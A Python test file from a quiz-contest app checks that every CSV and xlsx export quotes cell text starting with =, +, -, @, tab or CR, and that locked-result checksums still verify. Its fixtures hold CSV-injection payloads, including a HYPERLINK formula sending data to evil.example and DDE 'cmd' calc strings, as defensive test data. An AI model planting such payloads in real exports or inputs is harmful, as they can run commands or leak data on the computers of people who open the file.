"""No cell of any export starts a formula (DESIGN §5): text a taker, an organiser or a unit
directory put in that starts with = + - @, tab or CR comes out with a leading quote, in every
CSV and xlsx download, the command line's export and the locked snapshot, and the checksum
still verifies from the CSV."""

from __future__ import annotations

import csv
import hashlib
import io

import openpyxl
from sqlalchemy import select

from quizapp.auth.models import User
from quizapp.contests.models import Attempt, Round
from quizapp.extensions import db
from quizapp.judging.locking import CHECKSUM_LABEL
from quizapp.judging.models import RoundResult
from quizapp.judging.rows import HEADER
from quizapp.units.models import Unit
from tests.checksum_support import csv_checksum
from tests.judging.test_judging_pages import download
from tests.judging.test_locking import after_close, judge_of, lock
from tests.ranking_support import generate_round

# What OWASP's CSV-injection page lists, one per dangerous first character.
NAMES = ['=HYPERLINK("http://evil.example/?"&C2,"Bấm vào đây")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
         "-2+3", "\t=1+2", "\r=1+2"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def dangerous_round(app, tmp_path) -> int:
    """A round whose takers, unit, awards and attempts carry text that would start a formula."""
    round_id, _rows = generate_round(app, tmp_path, people=12)
    with app.app_context():
        unit = Unit(code="=U1", name="@SUM(A1:A9)")
        db.session.add(unit)
        db.session.flush()
        users = db.session.scalars(select(User).where(User.phone.like("0966%")).order_by(User.id)).all()
        for user, name in zip(users, NAMES * 2, strict=True):
            user.full_name, user.unit_id = name, unit.id
        db.session.get(Round, round_id).awards = [{"name": "=Giải Nhất", "count": 2}, {"name": "-Giải Nhì", "count": 2}]
        attempt = db.session.scalars(select(Attempt).where(Attempt.round_id == round_id).order_by(Attempt.id)).first()
        attempt.device_id, attempt.start_ip = "=cmd|' /C calc'!A0", "+1.2.3.4"
        attempt.disqualified, attempt.disqualify_reason = True, "-Bị loại"
        db.session.commit()
    return round_id


def csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_cells(data: bytes) -> list[list[object]]:
    """Every cell of the first sheet; fails on a formula cell."""
    workbook = openpyxl.load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert formulas == []
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def assert_no_formula(table: list[list[object]]) -> None:
    starting = [value for row in table for value in row if isinstance(value, str) and value.startswith(DANGEROUS)]
    assert starting == []


def names_in(table: list[list[object]], column: int = 1) -> set[object]:
    return {row[column] for row in table[1:]}


QUOTED = {f"'{name}" for name in NAMES}
# An XML reader reads a raw CR inside a cell as a line feed; the judges' xlsx writes it as a
# character reference (judging/xlsx.py), so the name reads back as it was typed.
QUOTED_XLSX = QUOTED


def test_every_download_neutralises_text_that_would_start_a_formula(app, tmp_path, runner):
    round_id = dangerous_round(app, tmp_path)
    judge = judge_of(app, round_id)

    def get(path: str) -> bytes:
        return download(judge, path).data

    ranking = csv_cells(get(f"/judging/rounds/{round_id}/export.csv"))
    assert ranking[0] == HEADER and names_in(ranking) == QUOTED
    assert names_in(ranking, 3) == {"'@SUM(A1:A9)"}
    assert_no_formula(ranking)
    sheet = xlsx_cells(get(f"/judging/rounds/{round_id}/export.xlsx"))
    assert list(sheet[0][:len(HEADER)]) == HEADER and names_in(sheet) == QUOTED_XLSX
    assert_no_formula(sheet)
    awards = csv_cells(get(f"/judging/rounds/{round_id}/awards.csv"))
    assert names_in(awards, 9) == {"'=Giải Nhất", "'-Giải Nhì"}
    assert_no_formula(awards)
    attempts = csv_cells(get(f"/judging/rounds/{round_id}/attempts.csv"))
    assert {"'=cmd|' /C calc'!A0", "'+1.2.3.4", "'-Bị loại"} <= {value for row in attempts for value in row}
    assert names_in(attempts) == QUOTED
    assert_no_formula(attempts)
    collective = csv_cells(get(f"/judging/rounds/{round_id}/collective?format=csv"))
    assert [row[1:3] for row in collective[1:]] == [["'=U1", "'@SUM(A1:A9)"]]
    assert_no_formula(collective)
    standings = csv_cells(get("/judging/contests/xep-hang/standings.csv"))
    assert names_in(standings) == QUOTED
    assert_no_formula(standings)

    for name in ("xep-hang.csv", "xep-hang.xlsx"):
        result = runner.invoke(args=["rankings", "export", str(round_id), "-o", str(tmp_path / name)])
        assert result.exit_code == 0, result.output
    command_line = csv_cells((tmp_path / "xep-hang.csv").read_bytes())
    assert names_in(command_line) == QUOTED
    assert_no_formula(command_line)
    assert_no_formula(xlsx_cells((tmp_path / "xep-hang.xlsx").read_bytes()))


def test_a_locked_round_keeps_the_safe_text_and_its_checksum_verifies(app, tmp_path, runner):
    round_id = dangerous_round(app, tmp_path)
    judge = judge_of(app, round_id)
    after_close(app)
    page = lock(judge, round_id).get_data(as_text=True)
    with app.app_context():
        result = db.session.scalar(select(RoundResult).where(RoundResult.round_id == round_id))
        checksum, canonical = result.checksum, result.canonical_csv
    assert checksum in page

    exported = download(judge, f"/judging/rounds/{round_id}/export.csv").data
    assert exported.decode("utf-8-sig").rstrip("\r\n").rpartition("\r\n")[2] == f"{CHECKSUM_LABEL},{checksum}"
    recomputed, rows = csv_checksum(exported)
    assert recomputed == checksum and rows == list(csv.reader(io.StringIO(canonical.decode())))[1:]
    table = csv_cells(exported)
    assert names_in(table[:-2]) == QUOTED
    assert_no_formula(table)
    sheet = xlsx_cells(download(judge, f"/judging/rounds/{round_id}/export.xlsx").data)
    assert names_in(sheet[:-2]) == QUOTED_XLSX and list(sheet[-1][:2]) == [CHECKSUM_LABEL, checksum]
    assert_no_formula(sheet)
    assert_no_formula(csv_cells(download(judge, f"/judging/rounds/{round_id}/awards.csv").data))


def test_a_snapshot_locked_before_neutralising_exports_no_formula_and_still_verifies(app, tmp_path, runner):
    round_id, _rows = generate_round(app, tmp_path, people=3)
    old = io.StringIO()
    writer = csv.writer(old, lineterminator="\r\n")
    writer.writerow(HEADER)
    writer.writerow([1, NAMES[0], "0966000001", "@SUM(A1:A9)", 5, "", "", 60.0, "06/05/2030 12:00:00.000", "=Giải",
                     1, 1])
    writer.writerow([2, "-2", "0966000002", "", 4, 600, 12, 61.5, "06/05/2030 12:01:00.000", "", 1, 2])
    data = old.getvalue().encode()
    with app.app_context():
        db.session.add(RoundResult(round_id=round_id, rows=2, checksum=hashlib.sha256(data).hexdigest(),
                                   canonical_csv=data))
        db.session.commit()

    for name in ("cu.csv", "cu.xlsx"):
        result = runner.invoke(args=["rankings", "export", str(round_id), "-o", str(tmp_path / name)])
        assert result.exit_code == 0, result.output
    exported = (tmp_path / "cu.csv").read_bytes()
    body, _, footer = exported[3:].rstrip(b"\r\n").rpartition(b"\r\n")
    assert hashlib.sha256(body + b"\r\n").hexdigest() == footer.decode().split(",")[1]
    sheet = xlsx_cells((tmp_path / "cu.xlsx").read_bytes())
    # A name is text whatever it looks like: "-2" is quoted, not made a number.
    assert [row[1] for row in sheet[1:3]] == [f"'{NAMES[0]}", "'-2"]
    assert [row[3] for row in sheet[1:3]] == ["'@SUM(A1:A9)", None]
    assert sheet[1][9] == "'=Giải" and sheet[2][7] == 61.5
    assert_no_formula(sheet)
